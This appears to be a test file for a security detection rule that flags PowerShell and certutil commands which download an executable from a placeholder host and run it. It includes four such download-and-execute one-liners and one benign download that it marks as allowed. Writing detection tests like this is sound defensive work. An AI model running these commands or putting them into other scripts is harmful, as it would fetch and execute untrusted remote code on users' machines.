# ruleid: shells-powershell-fetched
Invoke-WebRequest -Uri "https://a.invalid/x.exe" -OutFile "~/w.exe"; Invoke-Expression "~/w.exe"
# ruleid: shells-powershell-fetched
iwr https://a.invalid/x -o $env:TEMP\u.exe; Start-Process -FilePath $env:TEMP\u.exe
# ruleid: shells-powershell-fetched
(New-Object Net.WebClient).DownloadFile("https://a.invalid/x", "C:\t\u.exe"); Start-Process "C:\t\u.exe"
# ruleid: shells-powershell-fetched
certutil -urlcache -f https://a.invalid/u.exe u.exe & start u.exe
# ok: shells-powershell-fetched
Invoke-WebRequest -Uri "https://a.invalid/data.json" -OutFile "data.json"; Get-Content data.json
